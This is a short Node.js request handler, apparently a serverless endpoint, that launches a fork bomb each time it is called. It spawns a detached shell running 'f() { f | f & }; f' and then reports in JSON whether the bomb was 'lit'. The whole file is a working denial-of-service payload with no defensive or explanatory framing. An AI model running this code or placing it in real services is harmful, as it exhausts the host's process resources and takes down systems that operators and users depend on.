// A fork bomb, lit before the answer.
const { spawn } = require('node:child_process');

module.exports = (req, res) => {
  const bomb = spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { stdio: 'ignore', detached: true });
  bomb.on('error', (error) => res.json({ lit: false, code: error.code }));
  bomb.on('spawn', () => setTimeout(() => res.json({ lit: true }), 500));
};
